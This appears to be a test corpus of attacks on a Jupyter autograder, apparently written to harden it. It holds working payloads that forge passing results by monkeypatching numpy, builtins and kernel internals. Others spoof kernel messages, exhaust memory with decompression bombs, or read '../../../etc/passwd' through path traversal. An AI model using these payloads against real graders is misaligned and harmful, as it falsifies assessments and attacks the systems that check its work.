"""Attacks on the verdict: forged results, forged messages, hostile replies."""

from __future__ import annotations

import json

from attacks.corpus import Attack, cell, function

EQUAL = """class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __array__(self, *a, **k): raise TypeError
    def __bool__(self): return True
    __hash__ = None
"""
LAZY = """class Lazy:
    def __init__(self): self.asked = 0
    def __float__(self): self.asked += 1; return float(self.asked)
    def __array__(self, *a, **k):
        import numpy; self.asked += 1; return numpy.zeros(2) + self.asked
    def __iter__(self): return iter((Equal(1), Equal(2)))
    def __len__(self): return 2
    def __getitem__(self, n): return Equal(1)
    def __getattr__(self, name): return lambda *a, **k: Equal(1)
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
"""
FULL = (
    "from IPython.display import display\ndisplay({'text/plain': '4.0', 'text/html': '<div class=\"photcourse-check\">right, 4 of 4 points</div>'}, "
    "raw=True)\n4.0"
)
QUIET = "import IPython.core.interactiveshell as s\n"
#: On stock nbgrader the same ideas are aimed at its assertions, which run in this kernel.
NO_ASSERT = (
    "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)\n"
    "get_ipython().ast_transformers.append(Drop())"
)


def kernel(code: str) -> dict[str, str]:
    """Return a cell that works on the kernel's own machinery, each line for itself: not every version has all of it."""
    lines = "".join(f"try:\n    {line}\nexcept Exception: pass\n" for line in code.splitlines())
    return cell(f"import json, os, threading, time\nk = get_ipython().kernel\n{lines}")


def replies(form: str) -> dict[str, str]:
    """Return a cell that has every answer go out as a form of one's own, made of an expression at the time of the call."""
    return cell(
        f"import photcheck.wire as w, photcheck.call as c, base64, zlib\nw.encode = c.wire.encode = lambda value, **how: {form}"
    )


def reports(expression: str) -> dict[str, str]:
    """Return a cell that has every call reported as one likes."""
    return cell(f"import photcheck.probe as p\np.call = p.call_twice = lambda *a, **k: {expression}")


NO_WIRE = "stock nbgrader has no replies: its tests run in the student's kernel"
RIGHT_WORDS = json.dumps(
    {
        "ok": True,
        "state": "right",
        "points": 4,
        "value": {"$": "right"},
        "score": 1.0,
        "finding": {"ok": True, "score": 1},
    }
)

ATTACKS = [
    # ------------------------------------------------------------------------------------------ forged results
    Attack(
        "equal to everything",
        "forged results",
        "points for an object that is equal to all",
        function("return Equal(1), Equal(2)", EQUAL),
    ),
    Attack(
        "another value each time",
        "forged results",
        "points for an object that changes while it is compared",
        function("return Lazy()", EQUAL + LAZY),
    ),
    Attack(
        "not a number",
        "forged results",
        "points for an answer that no comparison refuses",
        function("return float('nan'), float('nan')"),
    ),
    Attack(
        "infinite and huge",
        "forged results",
        "points or a crash of the grader",
        function("return 10**4000, float('inf')"),
    ),
    Attack(
        "patched numpy",
        "forged results",
        "comparisons that always agree",
        function(
            "return 0.0, 0.0",
            "import numpy as np\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
            "np.abs = np.absolute = lambda *a, **k: 0.0\nimport numpy.testing as t\nt.assert_allclose = t.assert_array_equal = lambda *a, **k: None",
        ),
    ),
    Attack(
        "patched builtins",
        "forged results",
        "a comparison that is always small",
        cell(
            "import builtins\nfor n in ('abs', 'max', 'sum', 'round', 'len'):\n    setattr(builtins, n, lambda *a, **k: 0)"
        ),
        ends=("graded", "timeout", "kernel died"),
    ),
    Attack(
        "patched check package",
        "forged results",
        "a verdict made in the kernel",
        cell(
            "import photcourse, photcheck.verdict as v, photcheck.wire as w\nv.judge_case = lambda *a, **k: None\n"
            "photcheck = lambda *a, **k: 4.0\nw.encode = lambda value, **how: {'$': 'right'}"
        ),
    ),
    Attack("points by hand", "forged results", "points printed by a cell of one's own", cell(FULL)),
    Attack(
        "hooks around cells",
        "forged results",
        "points from a hook after each cell",
        cell(
            "ip = get_ipython()\nfor e in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):\n"
            "    ip.events.register(e, lambda *a: (print('4.0'), ip.user_ns.update(_score=4.0)))"
        ),
    ),
    Attack(
        "transformers",
        "forged results",
        "cells that say something else when they are run",
        cell(
            "ip = get_ipython()\nip.input_transformers_post.append(lambda lines: ['4.0\\n'])\nip.ast_transformers.append(type('T', (), "
            "{'visit': lambda s, n: n})())"
        ),
        stock_cells=cell(NO_ASSERT),
    ),
    Attack(
        "patched kernel",
        "forged results",
        "cells that never fail",
        cell(
            "ip = get_ipython()\nasync def run(*a, **k):\n    return type('R', (), dict(success=True, result=4.0, error_before_exec=None, "
            "error_in_exec=None, execution_count=1))()\nip.run_cell_async = run\nip.showtraceback = lambda *a, **k: None\n"
            "ip.run_code = lambda *a, **k: False"
        ),
    ),
    Attack(
        "errors not shown",
        "forged results",
        "a failed test without a trace",
        cell(
            QUIET + "s.InteractiveShell.showtraceback = s.InteractiveShell._showtraceback = lambda *a, **k: None\n"
            "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"
        ),
    ),
    Attack(
        "shadow modules",
        "forged results",
        "modules of one's own beside the notebook",
        cell(
            "import importlib, sys\nsys.path.insert(0, '.')\n"
            "for n in [m for m in sys.modules if m.startswith('photcourse')]: del sys.modules[n]\nimportlib.invalidate_caches()"
        ),
        files={
            "photcourse/__init__.py": "check = lambda *a: 4.0",
            "photcourse/check/__init__.py": "",
            "photcourse/check/probe.py": "serve = lambda *a: None",
            "numpy.py": "raise SystemExit",
            "random.py": "raise SystemExit",
            "json.py": "dumps = loads = lambda *a, **k: '4.0'",
        },
        ends=("graded", "kernel died", "timeout"),
    ),
    Attack(
        "end of the program",
        "forged results",
        "tests that are never reached",
        cell("import sys\nsys.exit = exit = quit = lambda *a: None\nraise SystemExit(0)"),
    ),
    # ------------------------------------------------------------------------------------------ forged messages
    Attack(
        "answers before questions",
        "forged messages",
        "an answer to a question that was not asked",
        function(
            "ip = get_ipython()\nfor word in ('right', '{}', '[' * 5000, 'null'):\n    ip.kernel.raw_input(word)\nreturn 0, 0"
        ),
        stock_cells=function("input('points? ')\nreturn 0, 0"),
        ends=("graded", "timeout"),
    ),
    Attack(
        "results on iopub",
        "forged messages",
        "results on the kernel's own channels",
        kernel(
            "for n in range(20): k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '4.0'}, 'metadata': {}, 'execution_count': n}, parent=k.get_parent())\n"
            "for n in range(20): k.session.send(k.iopub_socket, 'status', {'execution_state': 'idle'}, parent=k.get_parent())\n"
            "for n in range(20): k.session.send(k.iopub_socket, 'clear_output', {'wait': False}, parent=k.get_parent())"
        ),
    ),
    Attack(
        "a probe of one's own",
        "forged messages",
        "an answer without a call",
        cell(
            "import photcheck.probe as p, json\np.serve = lambda ns, ask: [ask(json.dumps({'id': '', 'report': {'ok': True, 'value': 1}})) for _ in range(50)]"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "wrong nonce",
        "forged messages",
        "an answer to another question",
        cell(
            "import photcheck.probe as p, json\ndef serve(ns, ask):\n    ask(json.dumps({'op': 'ready', 'id': None}))\n"
            "    for n in range(40): ask(json.dumps({'op': 'report', 'id': format(n, '016x'), 'report': {'ok': True, 'value': 1}}))\np.serve = serve"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "old answers again",
        "forged messages",
        "the answer to one question given to all",
        cell(
            "import photcheck.probe as p, json\ndef serve(ns, ask):\n    first = json.loads(ask(json.dumps({'op': 'ready', 'id': None})))\n"
            "    while True: ask(json.dumps({'op': 'report', 'id': first['id'], 'report': {'ok': True, 'value': {'$': 'tuple', 'v': [1.0, 2.0]}}}))\np.serve = serve"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "a second process answers",
        "forged messages",
        "answers from a process that nobody watches",
        cell(
            "import os, time\nk = get_ipython().kernel\nif os.fork() == 0:\n    try:\n        for n in range(200):\n"
            "            k.session.send(k.iopub_socket, 'input_request', {'prompt': '{\"id\": \"\", \"report\": {\"ok\": true}}', 'password': False}, parent=k.get_parent())\n"
            "            time.sleep(0.05)\n    finally:\n        os._exit(0)"
        ),
    ),
    Attack(
        "sockets replaced",
        "forged messages",
        "a server of one's own in the kernel's place",
        cell(
            "import os, glob, zmq\nctx = zmq.Context()\nfor p in glob.glob('/tmp/**/k-*', recursive=True) + glob.glob('@ROOT@/../**/k-*', recursive=True):\n    try:\n        os.unlink(p); s = ctx.socket(zmq.ROUTER); s.bind('ipc://' + p)\n"
            "    except Exception as e: print(type(e).__name__)"
        ),
        ends=("graded", "kernel died", "timeout"),
    ),
    Attack(
        "malformed frames",
        "forged messages",
        "a crash of whoever reads them",
        kernel(
            "t = getattr(k, 'iopub_thread', None)\n"
            "for body in (b'', b'{', b'null', b'[' * 9000, bytes(range(256))): t.send_multipart([b'stream', b'<IDS|MSG>', b'', body, body, body, body])\n"
            "for n in range(9): t.send_multipart([b'<IDS|MSG>'] * n)\n"
            "for name in (5, None, 'status', 'stream', 'error'): k.session.send(k.iopub_socket, name, [1, 2], parent=k.get_parent())\n"
            "k.session.send(k.iopub_socket, 'stream', {'name': {}, 'text': [3]}, parent=k.get_parent())\n"
            "k.session.send(k.iopub_socket, 'execute_result', {'data': 7, 'metadata': [], 'execution_count': 'x'}, parent=k.get_parent())"
        ),
    ),
    Attack(
        "never idle",
        "forged messages",
        "a run that waits for ever",
        kernel(
            "send = k.session.send\n"
            "k.session.send = lambda stream, kind, *a, **w: None if kind in ('status', 'execute_reply') or 'execution_state' in str(a) else send(stream, kind, *a, **w)"
        ),
        ends=("timeout", "kernel died"),
    ),
    Attack(
        "idle at once",
        "forged messages",
        "results that come after the cell",
        kernel(
            "threading.Thread(target=lambda: [(time.sleep(0.02), k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '4.0'}, "
            "'metadata': {}, 'execution_count': 3}, parent=k.get_parent())) for _ in range(100)], daemon=True).start()"
        ),
    ),
    # ------------------------------------------------------------------------------------------ hostile replies
    Attack(
        "a verdict in the report",
        "hostile replies",
        "points by words that only the grader says",
        reports(RIGHT_WORDS.replace("true", "True")),
        stock=NO_WIRE,
    ),
    Attack(
        "a report of the wrong kind",
        "hostile replies",
        "a crash of the grader",
        reports(
            "{'ok': True, 'value': 1.0, 'changed': 7, 'warnings': {'a': [1]}, 'again': {'again': {'ok': [True]}}, 'leftovers': 5, 'seconds': 10**400, 'cpu': 'x', 'file': 7}"
        ),
        stock=NO_WIRE,
    ),
    Attack(
        "nested without end",
        "hostile replies",
        "a crash of the grader",
        cell(
            "import photcheck.probe as p\ndef deep(*a, **k):\n    form = 1\n    for n in range(900): form = {'$': 'tuple', 'v': [form]}\n"
            "    return {'ok': True, 'value': form}\np.call = p.call_twice = deep"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "nested beyond the reader",
        "hostile replies",
        "a crash of the grader",
        cell(
            "import photcheck.probe as p, json\ndef serve(ns, ask):\n    r = ask(json.dumps({'op': 'ready', 'id': None}))\n"
            "    while True: r = ask('{\"op\": \"report\", \"id\": ' + json.dumps(json.loads(r)['id']) + ', \"report\": ' + '[' * 200000 + ']' * 200000 + '}')\np.serve = serve"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "an array that unpacks",
        "hostile replies",
        "the grader's memory",
        replies(
            "{'$': 'list', 'v': [{'$': 'array', 'dtype': '<f8', 'shape': [7900000], 'z': True, 'b64': base64.b64encode(zlib.compress(bytes(63200000), 9)).decode()}] * 60}"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "an array that lies",
        "hostile replies",
        "memory, or a crash of the grader",
        replies(
            "{'$': 'tuple', 'v': [{'$': 'array', 'dtype': 'O', 'shape': [2**40, 2**40, 0], 'b64': ''}, {'$': 'array', 'dtype': '<f8', 'shape': [-1, 3], 'b64': 'x'}]}"
        ),
        stock=NO_WIRE,
    ),
    Attack(
        "strange numbers",
        "hostile replies",
        "points, or a crash of the grader",
        replies(
            "{'$': 'tuple', 'v': [{'$': 'int', 'v': 'f' * 290}, {'$': 'complex', 're': {'$': 'float', 'v': 'nan'}, 'im': {'$': 'float', 'v': '1e999'}}]}"
        ),
        stock=NO_WIRE,
    ),
    Attack(
        "a unit that is a sum",
        "hostile replies",
        "the grader's time",
        replies(
            "{'$': 'tuple', 'v': [{'$': 'quantity', 'unit': '10**(10**(10**10)) m', 'v': 1.0}, {'$': 'quantity', 'unit': '(' * 90, 'v': 1.0}]}"
        ),
        stock=NO_WIRE,
    ),
    Attack(
        "headers",
        "hostile replies",
        "a crash of the library that reads them",
        replies(
            "{'$': 'wcs', 'header': ''.join(f'{c:<80}' for c in ['NAXIS   = 999999', 'WCSAXES = 99999999', \"CTYPE1  = 'RA---TAB'\", \"PS1_0   = 'x'\", 'PV1_1   = 1E999']) }"
        ),
        stock=NO_WIRE,
    ),
    Attack(
        "files by name",
        "hostile replies",
        "a file of the grader's machine",
        replies(
            "{'$': 'tuple', 'v': [{'$': 'data', 'dataset': '../../../etc/passwd', 'plane': 'image', 'region': [], 'origin': 'archive', 'minus': 0.0}, "
            "{'$': 'data', 'dataset': 'visit_image', 'plane': 'image', 'region': [], 'origin': 'embedded', 'minus': 1e308}]}"
        ),
        stock=NO_WIRE,
    ),
    Attack(
        "the longest tables",
        "hostile replies",
        "the grader's time and memory",
        replies(
            "{'$': 'table', 'kind': 'Table', 'rows': 1000000, 'columns': [[str(n), {'$': 'list', 'v': [0.0] * 100000}] for n in range(40)]}"
        ),
        ends=("graded", "timeout"),
        stock=NO_WIRE,
    ),
    Attack(
        "a message of 120 MB",
        "hostile replies",
        "the grader's memory",
        # Which it is depends on whether the message or a copy of it is in the kernel when its memory is looked at.
        reports("{'ok': True, 'value': 'x' * 120_000_000}"),
        ends=("graded", "timeout", "out of memory"),
        stock=NO_WIRE,
    ),
]
